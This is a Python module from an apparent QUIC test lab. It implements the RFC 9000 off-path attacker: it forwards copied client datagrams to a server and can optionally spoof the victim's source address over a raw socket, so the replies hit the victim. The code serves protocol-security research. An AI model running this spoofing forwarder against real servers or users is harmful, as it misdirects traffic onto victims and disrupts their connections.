"""The off-path attacker (RFC 9000 §9.3.3, §21.5.4): copies of the client's datagrams, sent on to the server.

``python -m lab.endpoints.adversary.forward --listen PORT --server IP:PORT [--spoof VICTIM:PORT]``

Copies arrive from the sensor (``tap``) on UDP ``--listen``. Each one is sent to the server at once:
- from the attacker's own address (an unconnected UDP socket; what the server sends back is read
  and counted, never forwarded to the client), or
- with ``--spoof``, from the victim's address through a raw socket (NET_RAW), so that the server's
  answers land on the victim.
A copy that reaches the server before the original makes the server see an apparent migration.
On SIGTERM it emits one ``attack_stats`` event with what it did.
"""

from __future__ import annotations

import argparse
import select
import signal
import socket
import sys

from lab.endpoints.adversary.packets import build_ipv4_udp
from lab.events import AttackStats, Emitter


class Stop(Exception):
    pass


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--listen", type=int, required=True)
    parser.add_argument("--server", required=True, help="ip:port")
    parser.add_argument("--spoof", help="victim ip:port to put as the source")
    parser.add_argument("--kind", default="forward")
    args = parser.parse_args(argv)
    server_ip, _, server_port = args.server.rpartition(":")
    server = (server_ip, int(server_port))
    emitter = Emitter("attacker")
    inbox = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    inbox.bind(("0.0.0.0", args.listen))
    if args.spoof:
        victim_ip, _, victim_port = args.spoof.rpartition(":")
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        own = None
        source = args.spoof
    else:
        own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        own.bind(("0.0.0.0", 0))
        own.connect(server)  # learns the source address the kernel picks
        source = f"{own.getsockname()[0]}:{own.getsockname()[1]}"

    def stop(*_: object) -> None:
        raise Stop

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    forwarded = forwarded_bytes = replies = reply_bytes = ident = 0
    print(f"attacker: forwarding copies to {args.server} from {source}", flush=True)
    try:
        while True:
            ready, _, _ = select.select([inbox] + ([own] if own else []), [], [])
            for sock in ready:
                data = sock.recv(65535)
                if sock is inbox:
                    if own is not None:
                        own.send(data)
                    else:
                        ident += 1
                        raw.sendto(build_ipv4_udp(victim_ip, server_ip, int(victim_port), server[1], data, ident),
                                   (server_ip, 0))
                    forwarded += 1
                    forwarded_bytes += len(data)
                else:  # the server's answer to the attacker's own address: counted and dropped
                    replies += 1
                    reply_bytes += len(data)
    except Stop:
        pass
    emitter.emit(AttackStats, kind=args.kind, source=source, forwarded=forwarded, forwarded_bytes=forwarded_bytes,
                 replies=replies, reply_bytes=reply_bytes)
    return 0


if __name__ == "__main__":
    sys.exit(main())
